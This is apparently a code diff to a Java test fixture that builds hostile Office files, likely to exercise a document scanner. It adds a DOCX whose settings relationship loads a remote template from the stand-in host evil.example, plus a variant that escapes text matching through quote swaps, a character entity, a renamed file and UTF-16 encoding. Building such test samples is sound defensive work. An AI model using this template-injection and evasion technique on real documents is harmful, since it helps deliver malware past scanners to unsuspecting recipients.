@@ -66,10 +66,22 @@ public final class HostileFiles {
         return docxWith("[Content_Types].xml", SampleFiles.contentTypes(type, "word/document.xml"));
     }
 
-    public static byte[] templateFromTheNet() {
-        return docxWith("word/_rels/settings.xml.rels", ascii("<Relationships><Relationship Id=\"r1\" Type=\"http://"
-                + "schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
-                + "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));
+    /** A document made from a template that lies there. */
+    public static byte[] templateFrom(String target) {
+        return docxWith("word/_rels/settings.xml.rels", ascii(templateRelationship(target)));
+    }
+
+    /** Written so that nobody who looks for its letters finds it. */
+    public static byte[] templateInDisguise() {
+        var disguised = templateRelationship("http://evil.example/t.dotm").replace('"', '\'')
+                .replace("attachedTemplate", "attached&#84;emplate");
+        return docxWith("word/_rels/other.xml.rels", ("\uFEFF" + disguised).getBytes(StandardCharsets.UTF_16BE));
+    }
+
+    private static String templateRelationship(String target) {
+        return "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+                + "relationships/attachedTemplate\" Target=\"" + target
+                + "\" TargetMode=\"External\"/></Relationships>";
     }
 
     public static byte[] scriptedOdt() {
